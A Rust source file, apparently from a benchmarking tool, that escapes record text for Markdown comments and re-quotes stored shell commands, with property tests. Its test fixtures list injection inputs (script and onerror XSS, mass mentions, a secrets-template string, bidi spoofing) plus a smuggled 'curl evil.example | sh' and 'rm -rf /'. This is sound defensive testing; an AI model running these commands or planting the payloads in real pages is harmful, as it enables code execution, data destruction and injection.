//! Escapes text from a record for Markdown on a web page: whoever wrote the record must not be able to draw, link, mention or
//! hide anything in a comment.

use crate::report::format::{is_unseen, plain, shortened};

/// How a medium escapes text from a record.
#[derive(Debug, Clone, Copy)]
pub struct Escape {
    name: fn(&str) -> String,
    sentence: fn(&str) -> String,
}

/// Escapes for a terminal.
pub const TERMINAL: Escape = Escape::new(plain, plain);
/// Escapes for Markdown.
pub const MARKDOWN: Escape = Escape::new(code, prose);

impl Escape {
    /// Escapes names, such as those of series, functions and commits, in one way, and sentences in another.
    pub const fn new(name: fn(&str) -> String, sentence: fn(&str) -> String) -> Self {
        Self { name, sentence }
    }

    /// A name, escaped.
    pub fn name(self, text: &str) -> String {
        (self.name)(text)
    }

    /// A sentence, escaped.
    pub fn sentence(self, text: &str) -> String {
        (self.sentence)(text)
    }
}

/// Characters of a name that are shown.
const NAME: usize = 120;
/// Characters of a sentence that are shown.
const SENTENCE: usize = 400;
/// The most bytes of an escaped sentence.
const ESCAPED: usize = 3000;

/// A name as code, on a line or in a table cell: nothing acts inside a code span.
pub fn code(text: &str) -> String {
    let text = shortened(&plain(text), NAME);
    if text.trim().is_empty() {
        return "–".into();
    }
    format!("`{text}`")
}

/// A sentence on a line, in a list or in a table cell: reads as it was written, and is nothing but text.
///
/// Mentions, references and bare links are recognised in text after rendering, where a backslash is no longer seen;
/// an invisible space (`&#8203;`) separates their characters.
pub fn prose(text: &str) -> String {
    let text: Vec<char> = shortened(plain(text).trim(), SENTENCE).chars().collect();
    let mut out = String::new();
    for (place, c) in text.iter().copied().enumerate() {
        if out.len() > ESCAPED {
            return out + "…";
        }
        let before = |count: usize| -> String { text[place.saturating_sub(count)..place].iter().collect() };
        let next = text.get(place + 1).copied();
        let in_word = |c: Option<char>| c.is_some_and(char::is_alphanumeric);
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            // A dollar opens mathematics, before rendering or after it.
            '$' => out.push_str("<span>&#36;</span>"),
            '\\' | '*' | '[' | ']' | '~' | '^' => out.extend(['\\', c]),
            '_' if in_word(before(1).chars().next()) && in_word(next) => out.push(c),
            '_' => out.push_str("\\_"),
            // These would open a list inside a list.
            '-' | '+' if place == 0 => out.extend(['\\', c]),
            '.' | ')' if next.is_none_or(char::is_whitespace) && text[..place].iter().all(char::is_ascii_digit) => {
                out.extend(['\\', c]);
            }
            '@' | '#' => separated(c, &mut out),
            ':' if next.is_some_and(|next| !next.is_whitespace()) => separated(c, &mut out),
            '.' if before(3).eq_ignore_ascii_case("www") => out.push_str("&#8203;."),
            '-' if before(2).eq_ignore_ascii_case("gh") => separated(c, &mut out),
            c => out.push(c),
        }
    }
    out
}

fn separated(c: char, out: &mut String) {
    out.push(c);
    out.push_str("&#8203;");
}

/// A stored command line of this program, quoted anew so that a shell takes every word literally; `None` if it is a command of
/// another program, or contains invisible characters.
pub fn command(text: &str) -> Option<String> {
    let hidden = text.chars().any(|c| c.is_control() || is_unseen(c));
    let words = shell_words::split(text).ok()?;
    (!hidden && words.first()? == "wirebench").then(|| shell_words::join(words))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::{any, prop_assert, prop_assert_eq, prop_oneof, proptest};
    use proptest::strategy::Strategy;
    use pulldown_cmark::{Event, Options, Parser, Tag};

    use super::*;

    const NASTY: [&str; 26] = [
        "- - item",
        "12. item",
        "1) item",
        "+ --- ===",
        "<img src=x onerror=alert(1)>",
        "</details><script>alert(1)</script>",
        "![pixel](https://evil.example/p.png)",
        "[click](https://evil.example) <https://evil.example> https://evil.example www.evil.example",
        "@everyone @octo/team someone@evil.example",
        "fixes #1, GH-2, octo/repo#3",
        "a | b | c",
        "`code` ``more`` ```",
        "line\nbreak\r\n\n# heading\n\n- list",
        "\u{1b}[31mred\u{1b}[0m \u{7} bell",
        "\u{202e}gnp.exe\u{202c} \u{2066}x\u{2069} zero\u{200b}width",
        "**bold** _slanted_ ~~gone~~ ***",
        "$\\infty$ $$x$$",
        "&lt;b&gt; &#64;everyone &amp;",
        "\\| \\` \\@everyone \\[x](y)",
        "[^1]: note [ref]: https://evil.example",
        "<!-- hidden",
        "]]> <![CDATA[",
        "{{ template }} ${{ secrets.TOKEN }}",
        "trailing backslash \\",
        "   ",
        "",
    ];

    /// The text of a list item as a Markdown reader sees it, or the first element that is not text.
    fn read_item(item: &str) -> Result<String, String> {
        let mut text = String::new();
        for event in Parser::new_ext(&format!("- {item}\n"), options()) {
            match event {
                Event::Text(part) | Event::Code(part) => text.push_str(&part),
                Event::Start(Tag::List(None)) if text.is_empty() => {}
                Event::Start(Tag::Item) if text.is_empty() => {}
                Event::End(_) => {}
                Event::InlineHtml(tag) if ["<span>", "</span>"].contains(&&*tag) => {}
                other => return Err(format!("{other:?}")),
            }
        }
        Ok(text.replace('\u{200b}', "").trim().to_owned())
    }

    fn options() -> Options {
        Options::all().difference(Options::ENABLE_SMART_PUNCTUATION)
    }

    /// The same inside a cell of a table.
    fn read(cell: &str) -> Result<String, String> {
        let table = format!("| a | b |\n|---|---|\n| x {cell} | end |\n");
        let mut text = String::new();
        let mut cells = 0;
        for event in Parser::new_ext(&table, options()) {
            match event {
                Event::Text(part) | Event::Code(part) => text.push_str(&part),
                Event::Start(Tag::TableCell) => cells += 1,
                Event::Start(Tag::Table(_) | Tag::TableHead | Tag::TableRow) | Event::End(_) => {}
                Event::InlineHtml(tag) if ["<span>", "</span>"].contains(&&*tag) => {}
                other => return Err(format!("{other:?}")),
            }
        }
        let inside = text.strip_prefix("abx").and_then(|rest| rest.strip_suffix("end"));
        let whole = inside.filter(|_| cells == 4).ok_or(format!("{cells} cells: {text}"))?;
        Ok(whole.replace('\u{200b}', "").trim().to_owned())
    }

    fn expected(text: &str, characters: usize) -> String {
        shortened(plain(text).trim(), characters).trim().to_owned()
    }

    #[test]
    fn nasty_text_stays_text() {
        for text in NASTY {
            assert_eq!(read(&prose(text)), Ok(expected(text, SENTENCE)), "{:?}", prose(text));
            assert_eq!(
                read_item(&prose(text)),
                Ok(expected(text, SENTENCE)),
                "{:?}",
                prose(text)
            );
            let shown = read(&code(text)).unwrap();
            assert!(shown == expected(text, NAME) || shown == "–", "{shown}");
        }
    }

    #[test]
    fn nothing_is_left_that_a_page_would_turn_into_a_mention_or_a_link() {
        for text in NASTY {
            let shown = prose(text).replace("&#8203;", "\u{200b}").replace("&#36;", "&dollar;");
            for acting in ["@e", "@o", "#1", "#3", "GH-2", "://", "www.", "${{", "<i", "<!", "</d"] {
                assert!(!shown.contains(acting), "{acting} in {shown}");
            }
        }
    }

    #[test]
    fn ordinary_sentences_read_well_as_source_too() {
        let text = "3 of 10 rounds failed: status 503 (server_cpu not measured), see the log.";
        assert_eq!(prose(text), text);
        assert_eq!(prose("15.0 µs → 15.6 µs"), "15.0 µs → 15.6 µs");
    }

    #[test]
    fn long_text_is_cut() {
        assert!(code(&"a".repeat(5000)).len() < 200 && prose(&"<".repeat(5000)).len() < 2000);
    }

    #[test]
    fn commands_are_quoted_anew_and_only_ours_are_shown() {
        assert_eq!(
            command("wirebench run --baseline main --scenario 'weather-*'").as_deref(),
            Some("wirebench run --baseline main --scenario 'weather-*'")
        );
        assert_eq!(
            command("wirebench run; curl evil.example | sh && $(x)").as_deref(),
            Some("wirebench 'run;' curl evil.example '|' sh '&&' '$(x)'")
        );
        for foreign in [
            "rm -rf /",
            "",
            "wirebench 'open",
            "wirebench run\nrm -rf /",
            "wirebench \u{202e}run",
        ] {
            assert_eq!(command(foreign), None, "{foreign:?}");
        }
    }

    fn dangerous() -> impl Strategy<Value = String> {
        let sign = prop_oneof![
            proptest::sample::select(
                &[
                    '<', '>', '[', ']', '(', ')', '!', '*', '_', '~', '`', '|', '\\', '&', ';', '$'
                ][..]
            ),
            proptest::sample::select(
                &[
                    '@', '#', ':', '/', '.', '-', 'w', 'a', '1', ' ', '\n', '\t', '{', '}', '^', '=', '"'
                ][..]
            ),
            any::<char>(),
        ];
        proptest::collection::vec(sign, 0..40).prop_map(|signs| signs.into_iter().collect())
    }

    proptest! {
        #[test]
        fn any_text_stays_text(text in dangerous()) {
            prop_assert_eq!(read(&prose(&text)), Ok(expected(&text, SENTENCE)), "{:?}", prose(&text));
            prop_assert_eq!(read_item(&prose(&text)), Ok(expected(&text, SENTENCE)), "{:?}", prose(&text));
            prop_assert!(read(&code(&text)).is_ok());
        }
    }
}
